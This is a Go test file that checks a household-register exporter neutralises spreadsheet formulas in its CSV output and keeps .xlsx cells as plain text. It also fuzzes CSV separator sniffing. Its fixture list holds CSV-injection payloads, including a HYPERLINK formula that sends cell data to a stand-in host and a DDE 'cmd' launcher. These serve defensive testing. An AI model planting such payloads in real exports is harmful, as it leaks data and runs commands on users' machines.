package ledgerio

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"sanbai/store"
)

// hostileTexts start the way a spreadsheet formula does, or look like the escape of one.
// (Without spaces: names and political status lose theirs on import, as typed ones do.)
var hostileTexts = []string{`=HYPERLINK("http://x.example/?"&C2,"点我")`, "@SUM(1+1)", "+86是区号", "-2+3+cmd|'/Ccalc'!A0",
	"'=已经转义", "''两个撇号", "'370102撇号在前"}

// TestCSVExportNeutralisesFormulas (issue 17, finding 3): names, addresses and fact-sheet lines
// that start like a formula reach the CSV export as text (a leading apostrophe, as OWASP
// advises), and the CSV imports back unchanged; the .xlsx export keeps them as plain strings.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	st, err := store.Open(t.TempDir(), store.Options{Now: func() time.Time { return day }})
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	d := store.Dataset{Township: store.Township{Name: "青石镇"},
		Villages: []store.Village{{Code: "DL", Name: "东岭新村"}},
		Grids:    []store.Grid{{Code: "DL01", Village: "DL", No: 1, Name: "1网格"}}}
	for i, s := range hostileTexts {
		d.Households = append(d.Households, store.Household{ID: "DL01-000" + string(rune('1'+i)), Village: "DL", Grid: "DL01",
			Address: s + "号", Residents: []store.Resident{{Name: s, Relation: "户主", Gender: "男", Born: "1960-01", Political: s}}})
	}
	if err := st.Seed(t.Context(), store.System(), d); err != nil {
		t.Fatal(err)
	}
	if _, err := st.SetFactSheet(t.Context(), store.System(), store.FactSheet{Village: "DL", Profile: hostileTexts[0] + "\n" + hostileTexts[3],
		Industries: hostileTexts[1:3], Services: hostileTexts[4:], Tasks: []string{"-修路"}}); err != nil {
		t.Fatal(err)
	}
	for _, report := range []string{"residents", "factsheet"} {
		data := export(t, st, store.System(), report, "csv", "")
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(data), "\uFEFF"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := 0
		for _, rec := range recs {
			for _, c := range rec {
				if c != "" && strings.ContainsRune(formulaLeads, rune(c[0])) && !plainNumberRE.MatchString(c) {
					t.Errorf("%s: a cell starts a formula: %q", report, c)
				}
				if c == "'"+hostileTexts[0] {
					seen++
				}
			}
		}
		if seen == 0 {
			t.Fatalf("%s: the HYPERLINK text is not in the export as '=…:\n%s", report, data)
		}
		p := parse(t, st, store.System(), data, report+".csv")
		if len(p.Problems) > 0 {
			t.Fatalf("%s: %v", report, FormatProblems(p.Problems, "en", 5))
		}
		rep, err := st.ImportRoster(t.Context(), store.System(), p.Roster, store.ImportOptions{DryRun: true})
		if err != nil || !rep.Empty() {
			t.Fatalf("%s: export → import is not a no-op: %v %+v", report, err, rep.Changes)
		}
	}
	// The workbook keeps the text as a string: no formula, no apostrophe.
	f, err := excelize.OpenReader(strings.NewReader(string(export(t, st, store.System(), "residents", "xlsx", ""))))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, _ := f.GetRows("人口")
	found := false
	for r, row := range rows {
		for c, v := range row {
			if v != hostileTexts[0] {
				continue
			}
			found = true
			ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if fm, _ := f.GetCellFormula("人口", ref); fm != "" {
				t.Fatalf("%s holds a formula: %s", ref, fm)
			}
		}
	}
	if !found {
		t.Fatal("the xlsx export does not hold the name as written")
	}
}

// FuzzNeutralise: the CSV reader's restoreNeutralised undoes the CSV writer's neutralise
// exactly, for any text, and what neutralise writes never starts a formula.
func FuzzNeutralise(f *testing.F) {
	for _, s := range append(hostileTexts, "", "'", "-", "-5", "+3.5", "\t=1", "\r@x", "王五") {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := neutralise(s)
		if back := restoreNeutralised(n); back != s {
			t.Fatalf("%q → %q → %q", s, n, back)
		}
		if n != "" && strings.ContainsRune(formulaLeads, rune(n[0])) && !plainNumberRE.MatchString(n) {
			t.Fatalf("%q is written as %q, a formula", s, n)
		}
	})
}

// TestSniffIgnoresQuotedSeparators (issue 17, finding 8): semicolons inside a quoted cell do not
// make a comma-separated file look semicolon-separated; a semicolon-separated file with quoted
// commas is still read by semicolons.
func TestSniffIgnoresQuotedSeparators(t *testing.T) {
	for _, c := range []struct {
		text string
		want rune
	}{
		{"栏目,内容\n服务,\"周一;周三;周五;周日\"\n", ','},
		{"栏目;内容\n服务;\"周一,周三,周五\"\n", ';'},
		{"栏目\t内容\n服务\t\"a,b,c;d\"\n", '\t'},
		{"a,b\n\"x\ny;z;w;v\",c\n", ','}, // a quoted line break
		{"a;b;c\n1;2;3\n", ';'},
	} {
		if got := sniffSeparator(c.text); got != c.want {
			t.Errorf("%q: sniffed %q, want %q", c.text, got, c.want)
		}
	}
	wb, err := ReadWorkbook([]byte("栏目,内容\n服务,\"周一;周三;周五;周日\"\n"), "明白纸.csv")
	if err != nil || len(wb.Sheets[0].Rows) != 2 || wb.Sheets[0].Rows[1][1] != "周一;周三;周五;周日" {
		t.Fatalf("%v %+v", err, wb)
	}
}

// FuzzCSVRecords holds csvRecords, which counts a CSV's shape before it is read, to
// encoding/csv: the same records with the same number of fields, for every separator.
func FuzzCSVRecords(f *testing.F) {
	for _, s := range []string{"a,b\n1,2\n", "\"a\"\"b\",c\r\n\n\n\"x\ny\",z", "\"open", "a,\"b\"c,d\n", "\"\"\r", "x\r", ";\t,\"\";"} {
		f.Add(s, uint8(0))
	}
	f.Fuzz(func(t *testing.T, text string, which uint8) {
		sep := []rune{',', '\t', ';'}[which%3]
		r := csv.NewReader(strings.NewReader(text))
		r.Comma, r.FieldsPerRecord, r.LazyQuotes = sep, -1, true
		var want []int
		for {
			rec, err := r.Read()
			if err != nil {
				break
			}
			want = append(want, len(rec))
		}
		var got []int
		csvRecords(text, sep, func(n int) bool { got = append(got, n); return true })
		if !slices.Equal(got, want) {
			t.Fatalf("%q sep %q: counted %v, encoding/csv read %v", text, sep, got, want)
		}
	})
}
